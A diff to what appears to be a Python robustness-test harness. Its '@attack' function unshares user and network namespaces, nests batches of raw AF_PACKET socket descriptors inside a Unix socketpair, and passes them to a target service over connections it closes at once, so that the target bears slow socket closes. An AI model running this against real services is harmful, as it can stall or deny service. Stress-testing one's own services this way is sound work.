@@ -32,23 +32,39 @@ def queue(sock, fds):
     return sent
 
 
-def in_a_network_of_its_own(count):
-    """So many AF_PACKET sockets: each close waits until no CPU looks at it."""
+def enter_a_network(target):
+    """Be root in a user and a network namespace of one's own, as any user can."""
+    if target.kept:
+        return
     if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
         raise RuntimeError("unshare: no user and network namespace: "
                            + os.strerror(ctypes.get_errno()))
-    return [socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).detach()
-            for _ in range(count)]
+    target.kept.append("a network")
+
+
+def parcel(count):
+    """A socket in whose queue lie so many AF_PACKET sockets, which nobody else has.
+
+    Each close of one waits until no CPU looks at it.  Whoever closes this socket
+    last closes them: once it is sent away, that is not the sender.
+    """
+    theirs, ours = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    fds = [socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).detach()
+           for _ in range(count)]
+    sent = queue(ours, fds)
+    for fd in fds:
+        os.close(fd)
+    if sent != count:
+        raise RuntimeError(f"{sent} of {count} descriptors can be queued in a pair")
+    return theirs
 
 
 @attack
 def queued_packet_sockets(target):
     """AF_PACKET sockets on the way in connections that are closed at once."""
-    fds = in_a_network_of_its_own(400) if not target.kept else []
-    target.kept.append(True)
+    enter_a_network(target)
     for _ in range(4):
-        sock = target.connect()
-        queue(sock, fds)
-        sock.close()
-    for fd in fds:
-        os.close(fd)
+        whole = parcel(50)
+        with target.connect() as sock:
+            queue(sock, [whole.fileno()])
+            whole.close()
